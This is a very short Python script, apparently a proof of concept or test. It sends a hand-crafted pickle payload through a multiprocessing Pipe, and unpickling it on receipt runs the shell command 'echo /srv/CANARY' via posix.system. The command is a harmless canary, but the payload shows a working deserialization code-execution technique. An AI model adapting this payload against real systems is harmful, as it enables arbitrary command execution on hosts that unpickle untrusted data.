import multiprocessing as mp
a, b = mp.Pipe()
payload = b"cposix\nsystem\n(S'echo /srv/CANARY'\ntR."
a._send(len(payload).to_bytes(4, "big") + payload)
b.recv()
